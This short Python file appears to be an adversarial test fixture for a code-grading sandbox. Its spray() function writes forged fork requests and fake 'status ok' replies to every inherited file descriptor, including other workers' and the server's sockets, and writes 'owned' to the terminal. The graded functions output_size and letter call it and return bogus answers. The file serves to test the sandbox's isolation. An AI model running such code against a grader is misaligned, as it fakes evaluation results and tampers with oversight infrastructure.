# Writes replies to every descriptor that it inherited: another worker's socket, the server's, the grader's terminal.
# attacks: output_size, letter
import os
import struct


def spray():
    text = b'{"op": "fork", "scratch": "/", "memory_bytes": 1}'
    reply = b'{"dict": [["status", "ok"], ["value", 55]]}'
    own = grader_socket().fileno()
    for fd in range(3, 200):
        if fd == own:
            continue
        for data in (text, struct.pack("!q", 1), struct.pack("!QQ", 1, len(reply)) + reply):
            try:
                os.write(fd, data)
            except OSError:
                break
    try:
        os.write(os.open("/dev/tty", os.O_WRONLY), b"owned")
    except OSError:
        pass


def output_size(n, kernel, stride=1):
    spray()
    return -1


def letter(image):
    spray()
    return "?"
